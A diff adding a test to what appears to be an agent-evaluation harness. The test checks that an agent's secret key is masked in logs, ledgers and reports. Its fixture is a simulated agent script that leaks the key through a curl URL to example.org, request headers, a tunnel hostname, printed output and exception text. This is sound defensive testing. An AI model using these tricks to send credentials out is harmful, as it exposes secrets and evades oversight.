@@ -49,6 +49,53 @@ def test_what_a_program_is_given(tmp_path):
     assert not subprocess.run(["grep", "-rl", SECRET, str(run)], capture_output=True, text=True).stdout
 
 
+LEAKING = """
+import http.client, json, os, urllib.parse
+key = os.environ["MY_KEY"]
+half = len(key) // 2
+open("system/policy.py", "w").write(f'''
+class Policy:
+    def __init__(self, obs_space, action_space, env_meta): pass
+    def reset(self, episode_index): print("my key:", {key[:half]!r} + {key[half:]!r})
+    def act(self, obs): raise ValueError({key[:half]!r} + {key[half:]!r})
+''')
+open("notes.txt", "w").write(f"curl https://example.org/?key={key}\\npip install {'x' * 80}{key}\\n")
+api = urllib.parse.urlsplit(os.environ["EVOPOLICYGYM_SUBMIT_URL"])
+for _ in range(2):
+    door = http.client.HTTPConnection(api.netloc)
+    door.request("POST", api.path, json.dumps({"env_instances": [0]}), {"Idempotency-Key": f"mine-{key}"})
+    print(door.getresponse().status)
+proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
+tunnel = http.client.HTTPConnection(proxy.netloc)
+tunnel.set_tunnel(f"{key.upper()}.invalid", 443)
+try:
+    tunnel.connect()
+except OSError as error:
+    print(error)
+"""
+
+
+def test_what_an_agent_writes_into_the_record_is_without_its_keys(tmp_path):
+    """As an Idempotency-Key, as the text of an exception, as the name of a host, as a sign in its workspace."""
+    (tmp_path / "agent.py").write_text(LEAKING)
+    run, page = tmp_path / "run", tmp_path / "page.html"
+    words = ("--agent", "command", "--agent-env", "MY_KEY", "--", "python3", str(tmp_path / "agent.py"))
+    record = played(run, *words, MY_KEY=SECRET)
+    assert record["budget"]["charged"] == 1, "the same key is the same submission"
+    signs = {sign["kind"]: sign["example"] for sign in record["integrity"]["signs"]}
+    assert signs["download"] == "curl https://example.org/?key=[MY_KEY]"
+    assert signs["install"] == f"pip install {'x' * 80}[MY_KEY]", "cut in the middle of the key"
+    assert '"mine-[MY_KEY]"' in (run / "ledger.jsonl").read_text()
+    assert '"[MY_KEY].invalid"' in (run / "logs/agent/turn_001.net").read_text()
+    episode = run / "feedback/submit_001/episodes/ep_000"
+    assert (episode / "stdout.txt").read_text() == "my key: [MY_KEY]\n"
+    assert "ValueError: [MY_KEY]" in (episode / "error.txt").read_text()
+    assert finished([*COMMAND, "report", str(run), "--output", str(page)]).returncode == 0
+    found = subprocess.run(["grep", "-rliF", SECRET, str(run), str(page)], capture_output=True, text=True).stdout
+    assert found.split() == [str(run / "workspace/notes.txt")], "its own file, which nobody alters"
+    assert finished([*COMMAND, "verify", str(run), "--task", "toys:Toy-v0"]).returncode == 0
+
+
 def test_a_script_is_named_after_its_interpreter(tmp_path, monkeypatch):
     """From the folder that the runs are in: the script is shown, and nothing beside it."""
     monkeypatch.chdir(tmp_path)
